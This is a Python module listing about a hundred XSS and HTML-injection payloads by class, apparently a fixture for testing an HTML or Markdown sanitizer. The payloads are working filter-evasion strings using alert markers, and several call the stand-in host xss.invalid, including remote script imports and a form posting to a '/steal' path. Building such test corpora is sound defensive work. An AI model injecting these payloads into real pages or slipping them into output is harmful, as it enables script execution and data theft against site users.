"""A corpus of XSS and HTML-injection payloads (after the OWASP XSS filter-evasion cheat sheet
classes): script tags, event handlers, SVG and MathML, ``javascript:``/``data:`` URLs, CSS,
template and attribute breaking, Markdown link and image tricks. Each one, if it ran, would
call ``alert``/``confirm``/``prompt``/``print``, set ``window.__xss``, or fetch a remote host.
"""

from __future__ import annotations

REMOTE = "http://xss.invalid"

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<script src=http://xss.invalid/x.js></script>",
    "<script>window.__xss=1</script>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "</script><script>alert(4)</script>",
    "<script\x20type='text/javascript'>alert(5)</script>",
    "<script>/*</script>*/alert(6)</script>",
    "<<SCRIPT>alert(7);//<</SCRIPT>",
    "<script nonce=abc>alert(8)</script>",
    "<script type=module>import('http://xss.invalid/m.js')</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(9)>">',
    "<template><script>alert(10)</script></template>",
    "<textarea></textarea><script>alert(11)</script>",
    "<title></title><script>alert(12)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(13)>",
    '<IMG SRC=/ onerror="alert(14)"></img>',
    "<body onload=alert(15)>",
    "<div onmouseover=alert(16)>hover</div>",
    "<input autofocus onfocus=alert(17)>",
    "<details open ontoggle=alert(18)>",
    "<video><source onerror=alert(19)></video>",
    "<audio src=x onerror=alert(20)>",
    "<marquee onstart=alert(21)>x</marquee>",
    "<iframe onload=alert(22)></iframe>",
    "<select autofocus onfocus=alert(23)>",
    "<textarea autofocus onfocus=alert(24)>",
    "<keygen autofocus onfocus=alert(25)>",
    "<button onclick=alert(26)>click</button>",
    "<form><button formaction=javascript:alert(27)>x</button></form>",
    "<img src=x:alert(28) onerror=eval(src)>",
    '<img """><script>alert(29)</script>">',
    "<img src=`x`onerror=alert(30)>",
    "<img/src=x/onerror=alert(31)>",
    "<body onpageshow=alert(32)>",
    "<a onmouseover=alert(33)>link</a>",
    "<style onload=alert(34)></style>",
    "<object data=x onerror=alert(35)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(36)>",
    "<img src=x onerror=\\u0061lert(37)>",
]

SVG_AND_MATHML = [
    "<svg onload=alert(38)>",
    "<svg><script>alert(39)</script></svg>",
    "<svg><animate onbegin=alert(40) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(41)><text x=0 y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(42)></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(43)' /></svg>#x />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(44)>",
    "<svg><set attributeName=onmouseover to=alert(45)>",
    "<svg/onload=alert(46)//",
    "<math href=javascript:alert(47)>click</math>",
    "<svg><style>@import 'http://xss.invalid/s.css';</style></svg>",
    "<svg><image href=http://xss.invalid/i.png />",
]

URLS = [
    "javascript:alert(48)",
    "JaVaScRiPt:alert(49)",
    "java\tscript:alert(50)",
    "java&#x09;script:alert(51)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(52)",
    "data:text/html,<script>alert(53)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg1NCk8L3NjcmlwdD4=",
    "vbscript:msgbox(55)",
    "<a href=javascript:alert(56)>x</a>",
    '<a href="data:text/html,<script>alert(57)</script>">x</a>',
    "<iframe src=javascript:alert(58)>",
    "<iframe src=http://xss.invalid/frame></iframe>",
    "<embed src=javascript:alert(59)>",
    "<object data=javascript:alert(60)>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(61)">',
    '<meta http-equiv=refresh content="0;url=http://xss.invalid/">',
    "<base href=http://xss.invalid/>",
    "<link rel=stylesheet href=http://xss.invalid/x.css>",
    "<link rel=prefetch href=http://xss.invalid/p>",
    "http://xss.invalid/plain-link",
    "//xss.invalid/protocol-relative",
    "<img src=http://xss.invalid/pixel.png>",
    "<img srcset=http://xss.invalid/a.png>",
    "<form action=http://xss.invalid/steal><input name=t></form>",
]

CSS = [
    "<style>body{background:url(http://xss.invalid/bg.png)}</style>",
    '<div style="background:url(http://xss.invalid/bg.png)">x</div>',
    '<div style="width:expression(alert(62))">x</div>',
    "<style>@import url(http://xss.invalid/i.css);</style>",
    '<div style="behavior:url(http://xss.invalid/x.htc)">x</div>',
    "<style>*{x:expression(alert(63))}</style>",
    "<p style=\"background-image:url('javascript:alert(64)')\">x</p>",
    "<style>@font-face{font-family:x;src:url(http://xss.invalid/f.woff)}</style>",
]

BREAKING = [
    '"><script>alert(65)</script>',
    "'><script>alert(66)</script>",
    '" onmouseover="alert(67)',
    "' onfocus='alert(68)' autofocus='",
    '" autofocus onfocus=alert(69) x="',
    "`><img src=x onerror=alert(70)>",
    "</textarea><script>alert(71)</script>",
    "</title><script>alert(72)</script>",
    "</style><script>alert(73)</script>",
    "--><script>alert(74)</script><!--",
    '<!--<img src="--><img src=x onerror=alert(75)//">',
    "]]><script>alert(76)</script>",
    "{{constructor.constructor('alert(77)')()}}",
    "${alert(78)}",
    "{{7*7}}<script>alert(79)</script>",
    "{% raw %}<script>alert(80)</script>",
    "<%= alert(81) %>",
    '\\"><img src=x onerror=alert(82)>',
    "\u2028<script>alert(83)</script>",
    "<plaintext><script>alert(84)</script>",
    "<xmp><script>alert(85)</script></xmp>",
    "<isindex action=javascript:alert(86) type=image>",
    '<div id="x" class="chip" data-source="0" onclick="alert(87)">fake chip</div>',
    "<button class=chip data-start=0 data-end=9999 onclick=alert(88)>fake</button>",
]

MARKDOWN = [
    "[click](javascript:alert(89))",
    "[click](JAVASCRIPT:alert(90))",
    "![img](http://xss.invalid/md.png)",
    "![img](javascript:alert(91))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg5Mik8L3NjcmlwdD4=)",
    "[a](<javascript:alert(93)>)",
    "<http://xss.invalid/autolink>",
    "[ref]: javascript:alert(94)\n\n[ref]",
    '![x"onerror="alert(95)](x)',
    '[x](http://xss.invalid "title" onclick=alert(96))',
    "```html\n<script>alert(97)</script>\n```",
    "<details><summary>x</summary><img src=x onerror=alert(98)></details>",
    "[![img](http://xss.invalid/nested.png)](javascript:alert(99))",
    '[x](#" onmouseover="alert(100))',
    "*<img src=x onerror=alert(101)>*",
    "> <script>alert(102)</script>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(103)>",
]

PAYLOADS: tuple[str, ...] = tuple(
    SCRIPT + EVENT_HANDLERS + SVG_AND_MATHML + URLS + CSS + BREAKING + MARKDOWN
)
